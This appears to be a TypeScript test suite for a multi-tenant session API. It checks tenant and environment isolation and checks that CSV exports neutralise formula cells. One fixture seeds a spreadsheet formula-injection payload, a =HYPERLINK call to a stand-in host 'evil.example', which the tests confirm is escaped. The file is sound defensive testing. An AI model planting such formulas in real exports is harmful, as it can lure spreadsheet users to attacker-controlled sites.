// The session insight routes (analysis, generations, CSV export) show a caller its own project's
// sessions only: another tenant's session or project is 404 and its events never appear in a
// list or an export; a key bound to an environment sees only that environment's sessions; and a
// text cell of the export that a spreadsheet would run as a formula is neutralised.
import { createApiKey } from '../../core/tenancy/accounts';
import { parseCsv } from '../support/csv';
import { client } from '../support/http';
import { seedTenant, startTestStack, type SeededTenant, type TestStack } from '../support/stack';
import { seedSession, seedTrace } from '../integration/sessions/fixtures';

jest.setTimeout(120_000);

let stack: TestStack;
let api: ReturnType<typeof client>;
let acme: SeededTenant;
let globex: SeededTenant;
let devKey: string;
const ids: Record<'acmeDev' | 'acmeProd' | 'globex', string> = { acmeDev: '', acmeProd: '', globex: '' };

const call = (marker: string) => ({ type: 'llm_call', spanId: `${marker}-llm`, data: { agent: 'A', model: `model-${marker}`, usage: { inputTokens: 1, outputTokens: 1 } } });
const formula = (marker: string) => ({ type: 'error', spanId: `${marker}-err`, data: { agent: 'A', kind: 'tool_error', message: `=HYPERLINK("http://evil.example/?${marker}","open")` } });

beforeAll(async () => {
  stack = await startTestStack();
  api = client(stack.baseUrl);
  acme = await seedTenant(stack.ctx, 'acme-insight-sec');
  globex = await seedTenant(stack.ctx, 'globex-insight-sec');
  devKey = (await createApiKey(stack.ctx.models, acme.tenantId, { name: 'dev', permissions: ['session:read'], environments: ['dev'] })).key;
  const a = { tenantId: acme.tenantId, projectId: acme.projectId };
  for (const [name, scope, environment] of [
    ['acmeDev', a, 'dev'],
    ['acmeProd', a, 'production'],
    ['globex', { tenantId: globex.tenantId, projectId: globex.projectId }, 'dev'],
  ] as const) {
    const session = await seedSession(stack.ctx, scope, { environment });
    await seedTrace(stack.ctx, session, [call(name), formula(name)]);
    ids[name] = session._id;
  }
});
afterAll(() => stack.close());

const path = (projectId: string, rest: string) => `/api/projects/${projectId}/sessions/${rest}`;

it("serves the owner and answers 404 for another tenant's session, through either project", async () => {
  expect((await api.get(path(acme.projectId, `${ids.acmeDev}/analysis`), { key: acme.adminKey })).status).toBe(200);
  for (const [projectId, rest] of [
    [acme.projectId, `${ids.globex}/analysis`],
    [acme.projectId, `generations?sessionId=${ids.globex}`],
    [acme.projectId, `export?format=csv&sessionId=${ids.globex}`],
    [globex.projectId, `${ids.globex}/analysis`],
    [globex.projectId, 'generations'],
    [globex.projectId, 'export?format=csv'],
  ] as const) {
    const res = await api.get(path(projectId, rest), { key: acme.adminKey });
    expect({ rest, status: res.status, code: res.body?.error?.code }).toEqual({ rest, status: 404, code: 'NOT_FOUND' });
    expect(res.text).not.toContain('model-globex');
  }
});

it("never lists or exports another tenant's events", async () => {
  const generations = await api.get(path(acme.projectId, 'generations'), { key: acme.adminKey });
  expect(generations.status).toBe(200);
  expect(generations.body.generations.map((g: { model: string }) => g.model).sort()).toEqual(['model-acmeDev', 'model-acmeProd']);
  const exported = await api.get(path(acme.projectId, 'export?format=csv'), { key: acme.adminKey });
  expect(exported.status).toBe(200);
  expect(exported.text).toContain(ids.acmeDev);
  expect(exported.text).not.toContain(ids.globex);
  expect(exported.text).not.toContain('globex');
});

it('shows a key bound to an environment only the sessions of that environment', async () => {
  const generations = await api.get(path(acme.projectId, 'generations'), { key: devKey });
  expect(generations.body.generations.map((g: { model: string }) => g.model)).toEqual(['model-acmeDev']);
  const exported = await api.get(path(acme.projectId, 'export?format=csv'), { key: devKey });
  expect(exported.status).toBe(200);
  expect(exported.text).toContain(ids.acmeDev);
  expect(exported.text).not.toContain(ids.acmeProd);
  for (const rest of [`${ids.acmeProd}/analysis`, `generations?sessionId=${ids.acmeProd}`, `export?format=csv&sessionId=${ids.acmeProd}`]) {
    expect({ rest, status: (await api.get(path(acme.projectId, rest), { key: devKey })).status }).toEqual({ rest, status: 404 });
  }
});

it('neutralises a formula in an exported text cell', async () => {
  const exported = await api.get(path(acme.projectId, `export?format=csv&sessionId=${ids.acmeDev}`), { key: acme.adminKey });
  expect(exported.status).toBe(200);
  const rows = parseCsv(exported.text);
  const error = rows[0]!.indexOf('error');
  const cells = rows.slice(1).map((r) => r[error]);
  expect(cells).toContain(`'=HYPERLINK("http://evil.example/?acmeDev","open")`);
  // No cell of the export starts like a formula.
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});
